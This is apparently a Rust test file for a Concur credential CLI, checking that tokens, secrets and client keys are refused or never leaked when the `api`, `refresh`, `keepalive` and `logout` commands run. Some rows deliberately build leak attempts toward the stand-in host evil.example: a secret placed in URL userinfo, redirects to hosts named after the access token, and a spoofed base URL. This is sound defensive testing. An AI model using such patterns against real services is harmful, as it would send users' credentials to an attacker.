//! `api`, `refresh`, `keepalive`, `logout`: commands that use the tokens.

use concur_sandbox::Fault;

use super::super::forms::ECHOED;
use super::super::scene::{Scene, graphic, odd};
use super::logins::burst;
use super::tokens::proxy;
use super::{Row, first, row};
use crate::harness::program;

const ECHO: &str = "/sandbox/echo";

pub(super) const ROWS: &[Row] = &[
    row("api", 0, "a body, fields and headers", |s| {
        let (body, header) = given(s);
        s.asks();
        let _ = s.code(&["api", ECHO, "-f", &format!("a={body}"), "-H", &header]);
        let _ = s.fed(&["api", ECHO, "-F", "a=@-"], &body).code(0);
        s.asked_into("answer.json").code(&["api", ECHO, "-f", "a=b", "--output", "answer.json"])
    }),
    row("api", 1, "what was given is refused, before and after it was sent", |s| {
        let (body, header) = given(s);
        s.given("body", &body);
        let field = format!("a={body}");
        for args in [
            vec!["api", ECHO, "-f", &body.replace('=', "-")],
            vec!["api", ECHO, "-H", &header.replace(": ", " ")],
            vec!["api", ECHO, "-H", &header.replace("X-Secret", "Authorization")],
            vec!["api", ECHO, "-f", &field, "-f", &field],
            vec!["api", "GET", ECHO, "--input", "body"],
            vec!["api", &format!("https://me:{}@evil.example/", &body[..12])],
        ] {
            let _ = s.code(&args);
        }
        s.world.sandbox.push_faults_at("/sandbox", 1, Fault::service_unavailable());
        let _ = s.run(&["api", ECHO, "-f", &field, "-H", &header]).code(5);
        s.world.sandbox.push_faults_at("/sandbox", 1, Fault::TruncateBody);
        let _ = s.run(&["api", ECHO, "--input", "body", "-H", &header]).code(5);
        s.code(&["api", "/no/such/path", "-f", &field, "-H", &header])
    }),
    row("api", 1, "the service gives back the token, in each form that is recognised", |s| {
        let token = s.tokens()["access_token"].as_str().unwrap().to_owned();
        let mut code = None;
        for form in 0..ECHOED {
            s.echo([&token, &token], form);
            code = code.max(s.code(&["api", ECHO]));
        }
        code
    }),
    row("api", 1, "it is sent on to a host that is named like the token", |s| {
        let token = s.tokens()["access_token"].as_str().unwrap().to_owned();
        for location in [format!("https://{token}.evil.example/"), format!("https://h/{token}")] {
            let header = Fault::Header { name: "location".to_owned(), value: location };
            let html = "text/html".to_owned();
            let body = Fault::RawBody { status: 302, content_type: html, body: Vec::new() };
            s.world.sandbox.push_faults_at("/", 1, Fault::Together(vec![header, body]));
            let _ = s.run(&["api", ECHO]).code(1);
        }
        s.code(&["api", "/no/such/path"])
    }),
    row("api", 4, "the token is refused, and so is the refresh token", |s| {
        s.world.age_access_token("default", 120);
        s.world.sandbox.expire_access_tokens();
        s.fault(Fault::Code(108)).fault(Fault::Code(5));
        s.code(&["api", ECHO])
    }),
    row("refresh", 0, "all of them", |s| s.code(&["refresh", "--all"])),
    row("refresh", 4, "Concur gives back what was sent, in each form that is recognised", |s| {
        let secret = s.world.sandbox.app().client_secret.clone();
        let token = s.tokens()["refresh_token"].as_str().unwrap().to_owned();
        let mut code = None;
        for form in 0..ECHOED {
            s.echo([&token, &secret], form);
            code = code.max(s.code(&["refresh"]));
        }
        code
    }),
    row("refresh", 5, "answers that are none", |s| {
        let html = "text/html".to_owned();
        let mut code = None;
        for fault in [
            Fault::RawBody { status: 200, content_type: html, body: b"<p>".to_vec() },
            Fault::OmitFields(vec!["access_token".to_owned(), "refresh_token".to_owned()]),
            Fault::ResetAfter,
            Fault::TruncateBody,
        ] {
            s.world.sandbox.fault_always(fault);
            code = s.code(&["refresh"]);
        }
        code
    }),
    row("refresh", 0, "odd answers: a base URL that is none, no expiry", |s| {
        s.fault(Fault::Geolocation("https://user:pw@evil.example".to_owned()));
        let _ = s.run(&["refresh"]).code(0);
        s.fault(Fault::OmitFields(vec!["refresh_expires_in".to_owned()]));
        s.code(&["refresh"])
    }),
    row("refresh", 6, "a client certificate's key that is not one", |s| {
        let key = client_key(s);
        let broken = key.replacen("-----END", "!\n-----END", 1);
        let file = s.given("client.pem", broken);
        s.env("CONCUR_CRED_CLIENT_CERT", file.display().to_string());
        s.code(&["refresh"])
    }),
    row("refresh", 0, "a client certificate, and a proxy with a password", |s| {
        let key = client_key(s);
        let file = s.given("client.pem", key);
        s.env("CONCUR_CRED_CLIENT_CERT", file.display().to_string());
        proxy(s, "CONCUR_CRED_PROXY");
        s.code(&["refresh"])
    }),
    row("refresh", 1, "a defect", |s| {
        burst(s, "answer-received");
        s.code(&["refresh"])
    }),
    row("keepalive", 0, "what was idle, by a job that is installed and removed", |s| {
        schedulers(s, "exit 0");
        s.env("CONCUR_CRED_CLIENT_SECRET", s.world.sandbox.app().client_secret.clone());
        s.world.database().execute("UPDATE record SET refreshed_at = 0", []).unwrap();
        let _ = s.run(&["keepalive", "--json"]).code(0);
        for scheduler in ["systemd", "cron"] {
            let _ = s.run(&["keepalive", "--install", scheduler, "--print"]).code(0);
            let _ = s.code(&["keepalive", "--install", scheduler]);
            let _ = s.code(&["keepalive", "--uninstall", scheduler]);
        }
        s.code(&["keepalive"])
    }),
    row("keepalive", 4, "Concur refuses one refresh token", |s| {
        s.world.database().execute("UPDATE record SET refreshed_at = 0", []).unwrap();
        s.fault(Fault::Code(108)).fault(Fault::Code(5));
        s.code(&["keepalive"])
    }),
    row("logout", 0, "revoked and forgotten", |s| s.code(&["logout", "--revoke", "--yes"])),
    row("logout", 5, "the service is down", |s| {
        s.world.sandbox.fault_always_at("/app-mgmt/", Fault::service_unavailable());
        s.code(&["logout", "--revoke", "--yes"])
    }),
    row("logout", 5, "the service gives back the token, in each form that is recognised", |s| {
        let token = s.tokens()["access_token"].as_str().unwrap().to_owned();
        let mut code = None;
        for form in 0..ECHOED {
            s.echo([&token, &token], form);
            code = code.max(s.code(&["logout", "--revoke", "--yes"]));
        }
        code
    }),
    first("logout", 3, "before the first login", |s| s.code(&["logout"])),
];

/// A field's value and a header, both secret.
fn given(s: &mut Scene) -> (String, String) {
    let (body, header) = (odd("b0dy"), graphic("h3ader"));
    s.secrets.add("body given to api", &body);
    s.secrets.add("header given to api", &header);
    (body, format!("X-Secret: {header}"))
}

/// A client certificate and its key, which is secret.
fn client_key(s: &mut Scene) -> String {
    let pem = match s.world.sandbox.client_pem() {
        Some(pem) => pem.to_owned(),
        None => Scene::new(true).world.sandbox.client_pem().unwrap().to_owned(),
    };
    let key = pem.split("-----BEGIN PRIVATE KEY-----").nth(1).unwrap();
    let key: String = key.split("-----").next().unwrap().split_whitespace().collect();
    let raw = base64::Engine::decode(&base64::prelude::BASE64_STANDARD, &key).unwrap();
    // Only its own bytes: the rest is the same in every key of this kind.
    s.secrets.add("client certificate's key", &raw[36..68]);
    pem
}

/// Stand-ins for the machine's schedulers.
fn schedulers(s: &Scene, script: &str) {
    for name in ["crontab", "systemctl"] {
        let path = s.world.bin().join(name);
        program::script(&path, &format!("#!/bin/sh\n{script}\n"));
    }
}
